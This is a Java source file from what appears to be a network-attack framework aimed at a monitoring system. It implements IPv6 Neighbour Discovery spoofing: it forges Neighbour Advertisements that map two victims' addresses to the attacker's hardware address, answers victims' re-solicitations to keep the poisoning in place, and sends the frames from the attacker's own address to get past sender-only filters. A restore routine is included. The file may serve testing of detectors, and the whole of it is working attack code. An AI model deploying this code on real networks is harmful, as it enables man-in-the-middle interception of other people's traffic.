package cofferdam.attacks.network;

import cofferdam.monitor.NetworkSetup;
import cofferdam.monitor.address.Ipv4Address;
import cofferdam.monitor.address.Ipv6Address;
import cofferdam.monitor.address.MacAddress;
import cofferdam.monitor.packet.Icmpv6;
import cofferdam.monitor.packet.Icmpv6.NeighbourAdvertisement;
import cofferdam.monitor.packet.Icmpv6.NeighbourSolicitation;
import cofferdam.monitor.packet.Ipv6Packet;

import java.util.ArrayList;
import java.util.List;
import java.util.Optional;

/**
 * Advertisements that give each victim's addresses the attacker's hardware address. They come from
 * the attacker's own IPv6 address, so that a filter which looks at the sender alone lets them pass.
 */
final class NeighbourLies implements DiscoveryLies {

    private final Foothold foothold;
    private final AddressResolution victims;

    NeighbourLies(Foothold foothold, AddressResolution victims) {
        this.foothold = foothold;
        this.victims = victims;
    }

    @Override
    public List<byte[]> told() {
        return advertisements(/* truly= */ false);
    }

    @Override
    public List<byte[]> truth() {
        return advertisements(/* truly= */ true);
    }

    /** Victims ask again before they go on believing (RFC 4861 section 7.3). */
    @Override
    public List<byte[]> answers(byte[] frame) {
        boolean asked = Ipv6Packet.inFrame(frame)
                .flatMap(Icmpv6::inPacket)
                .filter(NeighbourSolicitation.class::isInstance)
                .map(NeighbourSolicitation.class::cast)
                .filter(solicitation -> isVictims(solicitation.target()))
                .isPresent();
        return asked ? told() : List.of();
    }

    private boolean isVictims(Ipv6Address address) {
        return foothold.victims().stream()
                .flatMap(victim -> victims.of(victim).stream())
                .anyMatch(mac -> Ipv6Address.eui64(address.high(), mac).equals(address));
    }

    /** @param truly whether the victims' own hardware addresses are told instead of this one */
    private List<byte[]> advertisements(boolean truly) {
        MacAddress attacker = foothold.hardware();
        List<Ipv4Address> both = foothold.victims();
        Optional<MacAddress> first = victims.of(both.getFirst());
        Optional<MacAddress> last = victims.of(both.getLast());
        if (first.isEmpty() || last.isEmpty()) {
            return List.of();
        }
        List<byte[]> frames = new ArrayList<>();
        for (long prefix : new long[] {Ipv6Address.LINK_LOCAL, NetworkSetup.IPV6_PREFIX}) {
            frames.add(told(first.get(), prefix, last.get(), truly ? last.get() : attacker));
            frames.add(told(last.get(), prefix, first.get(), truly ? first.get() : attacker));
        }
        return frames;
    }

    /** Tells {@code whom} that the address which {@code whose} has in the prefix is at {@code at}. */
    private byte[] told(MacAddress whom, long prefix, MacAddress whose, MacAddress at) {
        Ipv6Address own = Ipv6Address.eui64(Ipv6Address.LINK_LOCAL, foothold.hardware());
        Ipv6Address to = Ipv6Address.eui64(Ipv6Address.LINK_LOCAL, whom);
        Icmpv6 message = new NeighbourAdvertisement(
                false, true, true, Ipv6Address.eui64(prefix, whose), Optional.of(at));
        return message.toPacket(own, to, Icmpv6.NEIGHBOUR_DISCOVERY_HOP_LIMIT)
                .toFrame(whom, foothold.hardware());
    }
}
